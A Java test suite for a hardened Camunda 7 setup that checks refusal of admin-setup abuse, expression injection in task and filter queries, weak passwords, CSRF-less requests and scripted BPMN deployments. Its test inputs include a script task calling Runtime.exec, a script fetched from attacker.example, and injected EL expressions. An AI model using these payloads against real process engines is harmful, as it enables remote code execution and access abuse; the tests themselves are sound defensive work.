package org.pnpflow.security;

import java.io.IOException;
import java.net.CookieManager;
import java.net.CookiePolicy;
import java.net.HttpCookie;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.Date;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ParseException;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.ProcessEngineException;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.filter.Filter;
import org.camunda.bpm.engine.identity.User;
import org.camunda.bpm.engine.impl.cfg.ProcessEngineConfigurationImpl;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.camunda.bpm.engine.repository.Deployment;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.ActiveProfiles;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * What we add to Camunda 7 CE's own defences, each seen refusing what it must and letting
 * through what Tasklist and our users need: the closed Admin setup, the refusal of
 * expressions in task and filter queries, the page-size limit, the password policy, login
 * throttling, CSRF protection of the webapps and the refusal of scripts in deployments.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
		// the webapps and /engine-rest find the engine by its name
		properties = "camunda.bpm.generate-unique-process-engine-name=false")
@ActiveProfiles("test")
@DirtiesContext
class HardeningTest {

	private static final String STRONG_PASSWORD = "Maple-Syrup-2026!";

	@LocalServerPort
	int port;

	@Autowired
	ProcessEngine engine;

	private final ObjectMapper json = new ObjectMapper();

	private final HttpClient http = HttpClient.newHttpClient();

	@AfterEach
	void resetClock() {
		ClockUtil.reset();
	}

	@Test
	void adminSetupIsClosed() throws Exception {
		Map<String, Object> newAdmin = Map.of("profile",
				Map.of("id", "mallory", "firstName", "Mal", "lastName", "Lory", "email", "mallory@example.com"),
				"credentials", Map.of("password", STRONG_PASSWORD));
		for (String path : List.of("/camunda/api/admin/setup/default/user/create",
				"/camunda/api/admin//setup/default/user/create", "/camunda/api/admin/setup/")) {
			HttpResponse<String> response = send(null, "POST", path, newAdmin);
			assertProblem(response, 403, "first-user setup");
		}
		assertThat(this.engine.getIdentityService().createUserQuery().userId("mallory").count()).isZero();
	}

	@Test
	void taskQueryWithAnExpressionIsRefusedBeforeTheEngine() throws Exception {
		assertProblem(
				send("officer", "GET",
						"/engine-rest/task?maxResults=15&assigneeExpression=" + encode("${currentUser()}"), null),
				400, "query parameter 'assigneeExpression'");
		assertProblem(send("officer", "POST", "/engine-rest/task?maxResults=15",
				Map.of("assigneeExpression", "${currentUser()}")), 400, "key '/assigneeExpression'");
	}

	@Test
	void expressionNestedInOrQueriesIsRefused() throws Exception {
		Map<String, Object> query = Map.of("candidateGroup", "officers", "orQueries",
				List.of(Map.of("candidateUser", "officer"), Map.of("dueDateExpression", "${dateTime().toDate()}")));
		assertProblem(send("officer", "POST", "/engine-rest/task?maxResults=15", query), 400,
				"key '/orQueries/1/dueDateExpression'");
		assertProblem(send("officer", "POST", "/engine-rest/engine/default/task/count", query), 400,
				"key '/orQueries/1/dueDateExpression'");
	}

	@Test
	void filterCarryingAnExpressionIsRefused() throws Exception {
		Map<String, Object> filter = Map.of("resourceType", "Task", "name", "Someone else's tasks", "query",
				Map.of("orQueries", List.of(Map.of("assigneeExpression", "${'director'}"))));
		// the manager may not create filters at all: without the guard this would be 403
		assertProblem(send("manager", "POST", "/engine-rest/filter/create", filter), 400,
				"key '/query/orQueries/0/assigneeExpression'");
		// the administrator may create filters, but not with an expression
		assertProblem(send("admin", "POST", "/engine-rest/filter/create", filter), 400, "assigneeExpression");
		String allOpenWork = filterId("All open work");
		assertProblem(send("admin", "PUT", "/engine-rest/filter/" + allOpenWork, filter), 400, "assigneeExpression");
		assertProblem(send("manager", "POST", "/engine-rest/filter/" + allOpenWork + "/list?maxResults=15",
				Map.of("candidateUserExpression", "${currentUser()}")), 400, "candidateUserExpression");
		assertThat(this.engine.getFilterService().createFilterQuery().filterName("Someone else's tasks").count())
			.isZero();
	}

	@Test
	void savedMyTasksFilterOrdinaryQueriesAndTaskVariablesStillWork() throws Exception {
		Task task = this.engine.getTaskService().newTask();
		task.setName("Hardening probe");
		task.setAssignee("officer");
		this.engine.getTaskService().saveTask(task);
		try {
			String myTasks = filterId("My tasks");
			HttpResponse<String> listed = send("officer", "GET",
					"/engine-rest/filter/" + myTasks + "/list?firstResult=0&maxResults=15", null);
			assertThat(listed.statusCode()).as(listed.body()).isEqualTo(200);
			assertThat(this.json.readTree(listed.body()).findValuesAsText("id")).contains(task.getId());
			HttpResponse<String> extended = send("officer", "POST",
					"/engine-rest/filter/" + myTasks + "/list?firstResult=0&maxResults=15",
					Map.of("active", true, "sorting", List.of(Map.of("sortBy", "dueDate", "sortOrder", "asc"))));
			assertThat(extended.statusCode()).as(extended.body()).isEqualTo(200);
			assertThat(this.json.readTree(extended.body()).findValuesAsText("id")).contains(task.getId());

			HttpResponse<String> tasks = send("officer", "POST", "/engine-rest/task?firstResult=0&maxResults=15",
					Map.of("orQueries", List.of(Map.of("assignee", "officer", "candidateGroup", "officers"))));
			assertThat(tasks.statusCode()).as(tasks.body()).isEqualTo(200);
			assertThat(this.json.readTree(tasks.body()).findValuesAsText("id")).contains(task.getId());

			// variables are data, whatever their name
			HttpResponse<String> variables = send("officer", "POST",
					"/engine-rest/task/" + task.getId() + "/localVariables",
					Map.of("modifications", Map.of("noteExpression", Map.of("value", "${not evaluated}"))));
			assertThat(variables.statusCode()).as(variables.body()).isEqualTo(204);
			assertThat(this.engine.getTaskService().getVariableLocal(task.getId(), "noteExpression"))
				.isEqualTo("${not evaluated}");
		}
		finally {
			this.engine.getTaskService().deleteTask(task.getId(), true);
		}
	}

	@Test
	void listQueriesMustAskForABoundedPage() throws Exception {
		HttpResponse<String> unbounded = send("officer", "GET", "/engine-rest/task", null);
		assertThat(unbounded.statusCode()).isEqualTo(400);
		assertThat(unbounded.body()).contains("An unbound number of results is forbidden");
		HttpResponse<String> tooLarge = send("officer", "GET", "/engine-rest/task?firstResult=0&maxResults=2001", null);
		assertThat(tooLarge.statusCode()).isEqualTo(400);
		assertThat(tooLarge.body()).contains("Max results limit of 2000 exceeded");
		HttpResponse<String> filtersUnbounded = send("officer", "GET", "/engine-rest/filter?resourceType=Task", null);
		assertThat(filtersUnbounded.statusCode()).isEqualTo(400);

		assertThat(send("officer", "GET", "/engine-rest/task?firstResult=0&maxResults=15", null).statusCode())
			.isEqualTo(200);
		assertThat(send("officer", "GET", "/engine-rest/task?firstResult=0&maxResults=2000", null).statusCode())
			.isEqualTo(200);
		assertThat(send("officer", "GET", "/engine-rest/task/count", null).statusCode()).isEqualTo(200);
	}

	@Test
	void weakPasswordsAreRefusedStrongOnesAccepted() throws Exception {
		IdentityService identity = this.engine.getIdentityService();
		User weak = identity.newUser("policyweak");
		weak.setPassword("password1");
		assertThatThrownBy(() -> identity.saveUser(weak)).isInstanceOf(ProcessEngineException.class)
			.hasMessageContaining("Password does not match policy");
		assertThat(identity.createUserQuery().userId("policyweak").count()).isZero();

		HttpResponse<String> weakOverRest = send("admin", "POST", "/engine-rest/user/create",
				Map.of("profile", Map.of("id", "policyrest"), "credentials", Map.of("password", "password1")));
		// Camunda answers 500, its status for an engine exception it has no other for
		assertThat(weakOverRest.statusCode()).as(weakOverRest.body()).isEqualTo(500);
		assertThat(weakOverRest.body()).contains("Password does not match policy");
		assertThat(identity.createUserQuery().userId("policyrest").count()).isZero();

		User strong = identity.newUser("policystrong");
		strong.setPassword(STRONG_PASSWORD);
		identity.saveUser(strong);
		HttpResponse<String> strongOverRest = send("admin", "POST", "/engine-rest/user/create",
				Map.of("profile", Map.of("id", "policyrest"), "credentials", Map.of("password", STRONG_PASSWORD)));
		try {
			assertThat(identity.checkPassword("policystrong", STRONG_PASSWORD)).isTrue();
			assertThat(strongOverRest.statusCode()).as(strongOverRest.body()).isEqualTo(204);
			assertThat(identity.checkPassword("policyrest", STRONG_PASSWORD)).isTrue();
		}
		finally {
			identity.deleteUser("policystrong");
			identity.deleteUser("policyrest");
		}

		// the demo accounts kept their published passwords, but may not set a weak one
		assertThat(identity.checkPassword("intake", "test")).isTrue();
		assertThat(identity.checkPassword("admin", "test-admin")).isTrue();
		User intake = identity.createUserQuery().userId("intake").singleResult();
		intake.setPassword("intake");
		assertThatThrownBy(() -> identity.saveUser(intake)).hasMessageContaining("Password does not match policy");
		assertThat(identity.checkPassword("intake", "test")).isTrue();
	}

	@Test
	void repeatedWrongPasswordsLockTheUser() {
		IdentityService identity = this.engine.getIdentityService();
		User probe = identity.newUser("throttleprobe");
		probe.setPassword(STRONG_PASSWORD);
		identity.saveUser(probe);
		try {
			ClockUtil.setCurrentTime(new Date());
			assertThat(identity.checkPassword("throttleprobe", "guess-1")).isFalse();
			// locked for 3 s: even the right password is refused
			assertThat(identity.checkPassword("throttleprobe", STRONG_PASSWORD)).isFalse();
			later(Duration.ofSeconds(4));
			assertThat(identity.checkPassword("throttleprobe", STRONG_PASSWORD)).isTrue();

			for (int attempt = 1; attempt <= 10; attempt++) {
				later(Duration.ofSeconds(61));
				assertThat(identity.checkPassword("throttleprobe", "guess-" + attempt)).isFalse();
			}
			later(Duration.ofDays(1));
			assertThat(identity.checkPassword("throttleprobe", STRONG_PASSWORD)).as("locked until unlocked").isFalse();
			identity.unlockUser("throttleprobe");
			assertThat(identity.checkPassword("throttleprobe", STRONG_PASSWORD)).isTrue();
		}
		finally {
			ClockUtil.reset();
			identity.deleteUser("throttleprobe");
		}
	}

	@Test
	void webappRequestsWithoutTheCsrfTokenAreRefusedDespiteASession() throws Exception {
		CookieManager cookies = new CookieManager(null, CookiePolicy.ACCEPT_ALL);
		HttpClient browser = HttpClient.newBuilder()
			.cookieHandler(cookies)
			.followRedirects(HttpClient.Redirect.NORMAL)
			.build();
		String taskQuery = "/camunda/api/engine/engine/default/task?firstResult=0&maxResults=15";

		String token = logIn(browser, cookies, "intake");
		HttpResponse<String> withToken = browser.send(post(taskQuery, "{}", token), BodyHandlers.ofString());
		assertThat(withToken.statusCode()).as(withToken.body()).isEqualTo(200);
		assertProblem(browser.send(
				post(taskQuery,
						this.json.writeValueAsString(
								Map.of("orQueries", List.of(Map.of("assigneeExpression", "${'x'}")))),
						token),
				BodyHandlers.ofString()), 400, "key '/orQueries/0/assigneeExpression'");
		assertThat(browser.send(post(taskQuery, "{}", null), BodyHandlers.ofString()).statusCode()).isEqualTo(403);
		// Camunda ends the session of a request that failed the check
		assertThat(browser.send(post(taskQuery, "{}", token), BodyHandlers.ofString()).statusCode()).isEqualTo(401);

		token = logIn(browser, cookies, "intake");
		String logout = "/camunda/api/admin/auth/user/default/logout";
		assertThat(browser.send(post(logout, "", null), BodyHandlers.ofString()).statusCode()).isEqualTo(403);
		token = logIn(browser, cookies, "intake");
		assertThat(browser.send(post(logout, "", "forged-" + token), BodyHandlers.ofString()).statusCode()).isIn(401,
				403);
		assertThat(browser.send(post(taskQuery, "{}", token), BodyHandlers.ofString()).statusCode()).isEqualTo(401);
	}

	/** Logs into Tasklist as the browser does; answers the session's CSRF token. */
	private String logIn(HttpClient browser, CookieManager cookies, String user)
			throws IOException, InterruptedException {
		browser.send(HttpRequest.newBuilder(uri("/camunda/app/tasklist/")).GET().build(), BodyHandlers.discarding());
		HttpResponse<String> login = browser
			.send(HttpRequest.newBuilder(uri("/camunda/api/admin/auth/user/default/login/tasklist"))
				.header("Content-Type", "application/x-www-form-urlencoded")
				.header("X-XSRF-TOKEN", csrfToken(cookies))
				.POST(BodyPublishers.ofString("username=" + user + "&password=test"))
				.build(), BodyHandlers.ofString());
		assertThat(login.statusCode()).as(login.body()).isEqualTo(200);
		// the session is new after the login: its token comes with the next page
		HttpResponse<String> me = browser.send(
				HttpRequest.newBuilder(uri("/camunda/api/admin/auth/user/default")).GET().build(),
				BodyHandlers.ofString());
		assertThat(me.body()).contains("\"userId\":\"" + user + "\"");
		return csrfToken(cookies);
	}

	@Test
	void deploymentsWithScriptsAreRefused() {
		RepositoryService repository = this.engine.getRepositoryService();
		assertRefused(repository, process("""
				<bpmn:scriptTask id="Task_RunScript" scriptFormat="javascript">
				  <bpmn:script>java.lang.Runtime.getRuntime().exec('id')</bpmn:script>
				</bpmn:scriptTask>
				"""), "script task 'Task_RunScript'");
		assertRefused(repository, process("""
				<bpmn:serviceTask id="Task_Listened" camunda:expression="${true}">
				  <bpmn:extensionElements>
				    <camunda:executionListener event="start">
				      <camunda:script scriptFormat="groovy">println 'hello'</camunda:script>
				    </camunda:executionListener>
				  </bpmn:extensionElements>
				</bpmn:serviceTask>
				"""), "camunda:script in 'Task_Listened'");
		assertRefused(repository, process("""
				<bpmn:serviceTask id="Task_Mapped" camunda:expression="${true}">
				  <bpmn:extensionElements>
				    <camunda:inputOutput>
				      <camunda:inputParameter name="x">
				        <camunda:script scriptFormat="javascript" resource="https://attacker.example/x.js" />
				      </camunda:inputParameter>
				    </camunda:inputOutput>
				  </bpmn:extensionElements>
				</bpmn:serviceTask>
				"""), "camunda:script in 'Task_Mapped'");
		assertRefused(repository,
				"""
						<?xml version="1.0" encoding="UTF-8"?>
						<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
						    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
						    xmlns:camunda="http://camunda.org/schema/1.0/bpmn" targetNamespace="http://pnpflow.org/test">
						  <bpmn:process id="ScriptedConditionProcess" isExecutable="true" camunda:historyTimeToLive="1">
						    <bpmn:startEvent id="StartEvent_Probe" />
						    <bpmn:exclusiveGateway id="Gateway_Probe" />
						    <bpmn:sequenceFlow id="SequenceFlow_In" sourceRef="StartEvent_Probe" targetRef="Gateway_Probe" />
						    <bpmn:sequenceFlow id="SequenceFlow_Scripted" sourceRef="Gateway_Probe" targetRef="EndEvent_Probe">
						      <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" language="javascript">true</bpmn:conditionExpression>
						    </bpmn:sequenceFlow>
						    <bpmn:endEvent id="EndEvent_Probe" />
						  </bpmn:process>
						</bpmn:definitions>
						""",
				"conditionExpression in 'SequenceFlow_Scripted' with language=\"javascript\"");

		Deployment clean = repository.createDeployment()
			.name("hardening-probe")
			.addString("clean.bpmn", process("<bpmn:serviceTask id=\"Task_Clean\" camunda:expression=\"${true}\" />"))
			.deploy();
		try {
			assertThat(repository.createProcessDefinitionQuery().deploymentId(clean.getId()).count()).isOne();
		}
		finally {
			repository.deleteDeployment(clean.getId(), true);
		}
		assertThat(((ProcessEngineConfigurationImpl) this.engine.getProcessEngineConfiguration())
			.isEnableScriptEngineLoadExternalResources()).isFalse();
	}

	private static void assertRefused(RepositoryService repository, String bpmn, String named) {
		long before = repository.createDeploymentQuery().count();
		assertThatThrownBy(
				() -> repository.createDeployment().name("hardening-probe").addString("probe.bpmn", bpmn).deploy())
			.isInstanceOf(ParseException.class)
			.hasMessageContaining("Scripts are not allowed in deployments")
			.hasMessageContaining(named);
		assertThat(repository.createDeploymentQuery().count()).isEqualTo(before);
	}

	/** A one-task process around the given task element. */
	private static String process(String task) {
		return """
				<?xml version="1.0" encoding="UTF-8"?>
				<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
				    xmlns:camunda="http://camunda.org/schema/1.0/bpmn" targetNamespace="http://pnpflow.org/test">
				  <bpmn:process id="HardeningProbeProcess" isExecutable="true" camunda:historyTimeToLive="1">
				    <bpmn:startEvent id="StartEvent_Probe" />
				    <bpmn:sequenceFlow id="SequenceFlow_In" sourceRef="StartEvent_Probe" targetRef="%s" />
				    %s
				    <bpmn:sequenceFlow id="SequenceFlow_Out" sourceRef="%s" targetRef="EndEvent_Probe" />
				    <bpmn:endEvent id="EndEvent_Probe" />
				  </bpmn:process>
				</bpmn:definitions>
				""".formatted(taskId(task), task, taskId(task));
	}

	private static String taskId(String task) {
		int start = task.indexOf("id=\"") + 4;
		return task.substring(start, task.indexOf('"', start));
	}

	private static void later(Duration duration) {
		ClockUtil.setCurrentTime(new Date(ClockUtil.getCurrentTime().getTime() + duration.toMillis()));
	}

	private String filterId(String name) {
		Filter filter = this.engine.getFilterService().createFilterQuery().filterName(name).singleResult();
		return filter.getId();
	}

	private HttpResponse<String> send(String user, String method, String path, Object body)
			throws IOException, InterruptedException {
		HttpRequest.Builder request = HttpRequest.newBuilder(uri(path)).header("Accept", "application/json");
		if (user != null) {
			String password = "admin".equals(user) ? "test-admin" : "test";
			request.header("Authorization", "Basic "
					+ Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8)));
		}
		if (body != null) {
			request.header("Content-Type", "application/json")
				.method(method, BodyPublishers.ofString(this.json.writeValueAsString(body)));
		}
		else {
			request.method(method, BodyPublishers.noBody());
		}
		return this.http.send(request.build(), BodyHandlers.ofString());
	}

	private HttpRequest post(String path, String body, String csrfToken) {
		HttpRequest.Builder request = HttpRequest.newBuilder(uri(path))
			.header("Content-Type", "application/json")
			.header("Accept", "application/json")
			.POST(BodyPublishers.ofString(body));
		if (csrfToken != null) {
			request.header("X-XSRF-TOKEN", csrfToken);
		}
		return request.build();
	}

	private static String csrfToken(CookieManager cookies) {
		return cookies.getCookieStore()
			.getCookies()
			.stream()
			.filter((cookie) -> "XSRF-TOKEN".equals(cookie.getName()))
			.map(HttpCookie::getValue)
			.reduce((first, last) -> last)
			.orElseThrow(() -> new AssertionError("no XSRF-TOKEN cookie: " + cookies.getCookieStore().getCookies()));
	}

	private void assertProblem(HttpResponse<String> response, int status, String detail) throws IOException {
		assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
		assertThat(response.headers().firstValue("Content-Type"))
			.hasValueSatisfying((type) -> assertThat(type).startsWith("application/problem+json"));
		JsonNode problem = this.json.readTree(response.body());
		assertThat(problem.path("status").asInt()).isEqualTo(status);
		assertThat(problem.path("detail").asText()).contains(detail);
	}

	private URI uri(String path) {
		return URI.create("http://localhost:" + this.port + path);
	}

	private static String encode(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8);
	}

}
